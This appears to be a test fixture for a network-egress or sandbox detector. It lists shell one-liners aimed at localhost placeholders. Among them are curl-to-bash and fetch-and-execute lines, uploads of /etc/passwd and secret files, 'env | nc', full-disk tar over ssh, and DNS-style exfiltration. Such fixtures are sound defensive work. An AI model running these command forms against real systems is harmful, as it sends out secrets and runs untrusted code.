### sockets of the shell
exec 3<> /dev/tcp/127.0.0.1/@port@; echo GET / >&3; cat <&3
echo x > /dev/udp/127.0.0.1/@port@; read -r x < /dev/tcp/localhost/@port@; git tag "$x"; cat < /dev/tcp/::1/@port@; (echo > /dev/tcp/127.0.0.1/@port@) && git tag open; while read -r y; do git tag "$y"; done < /dev/tcp/127.0.0.1/@port@; timeout 1 bash -c '</dev/tcp/127.0.0.1/@port@'

### downloads
x=$(curl -s http://127.0.0.1:@port@/) y=$(wget -qO- http://127.0.0.1:@port@/) z=$(http :@port@/) w=$(aria2c http://127.0.0.1:@port@/) v=$(lynx -dump http://127.0.0.1:@port@/) u=$(GET http://127.0.0.1:@port@/) t=$(fetch http://127.0.0.1:@port@/) s=$(busybox wget -O- http://127.0.0.1:@port@/)
git tag "$x" "$y" "$z" "$w" "$v" "$u" "$t" "$s"

### a download that is run
curl -fsSL http://127.0.0.1:@port@/install.sh | bash
bash <(curl -s http://127.0.0.1:@port@/); sh -c "$(wget -qO- http://127.0.0.1:@port@/)"; . <(curl http://127.0.0.1:@port@/); eval "$(curl http://127.0.0.1:@port@/)"; curl http://127.0.0.1:@port@/ | sudo sh; wget http://127.0.0.1:@port@/x -O x && chmod +x x && ./x

### secrets that are sent away
curl -d @/etc/passwd http://127.0.0.1:@port@/; curl -F f=@@file@ http://127.0.0.1:@port@/; curl "http://127.0.0.1:@port@/?$(cat @file@)$CANARY_SECRET"; nc 127.0.0.1 @port@ < @file@; cat @file@ > /dev/tcp/127.0.0.1/@port@; wget --post-file=@file@ http://127.0.0.1:@port@/; env | nc 127.0.0.1 @port@; scp -P @port@ @file@ 127.0.0.1:; rsync @file@ rsync://127.0.0.1:@port@/x; tar c / | ssh -p @port@ 127.0.0.1 cat; logger -n 127.0.0.1 -P @port@ x; mail -s x root < @file@

### sockets of programs
nc -z 127.0.0.1 @port@; ncat 127.0.0.1 @port@; socat - TCP:127.0.0.1:@port@; telnet 127.0.0.1 @port@; openssl s_client -connect 127.0.0.1:@port@; nmap -p @port@ 127.0.0.1; ftp 127.0.0.1 @port@; tftp 127.0.0.1; redis-cli -p @port@ ping; psql -h 127.0.0.1 -p @port@ -c 'select 1'; mysql -h 127.0.0.1 -P @port@; kubectl --server http://127.0.0.1:@port@ get pods; docker -H tcp://127.0.0.1:@port@ ps; pg_isready -h 127.0.0.1 -p @port@; mongosh --port @port@; gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/@port@"; print "x" |& s; s |& getline l; print l }'

### sockets of languages
python3 -c 'import socket; s = socket.create_connection(("127.0.0.1", @port@)); print(s.recv(99))'
node -e 'require("net").connect(@port@)'; perl -MIO::Socket -e 'IO::Socket::INET->new("127.0.0.1:@port@")'; ruby -rsocket -e 'TCPSocket.new("127.0.0.1", @port@)'; php -r 'fsockopen("127.0.0.1", @port@);'; python3 -m http.server @port@; python3 - <<'EOF'
import urllib.request
urllib.request.urlopen("http://127.0.0.1:@port@/")
EOF

### packages and repositories
git clone http://127.0.0.1:@port@/x.git; git fetch git://127.0.0.1:@port@/x; npm install --registry http://127.0.0.1:@port@ x; npx http://127.0.0.1:@port@/x; pip install -i http://127.0.0.1:@port@ x; gem install -s http://127.0.0.1:@port@ x; cargo install x; go install 127.0.0.1:@port@/x@latest; helm repo add x http://127.0.0.1:@port@; helm pull oci://127.0.0.1:@port@/x; docker pull 127.0.0.1:@port@/x; kubectl apply -f http://127.0.0.1:@port@/x.yaml; kubectl kustomize http://127.0.0.1:@port@/x; apt-get update; git submodule update --init; terraform init; ansible-galaxy install http://127.0.0.1:@port@/x

### names that are looked up
x=$(dig +short canary.invalid) y=$(host canary.invalid) z=$(nslookup canary.invalid 127.0.0.1) w=$(getent hosts canary.invalid); ping -c 1 127.0.0.1; traceroute 127.0.0.1; echo > /dev/tcp/$(cat @file@).invalid/53
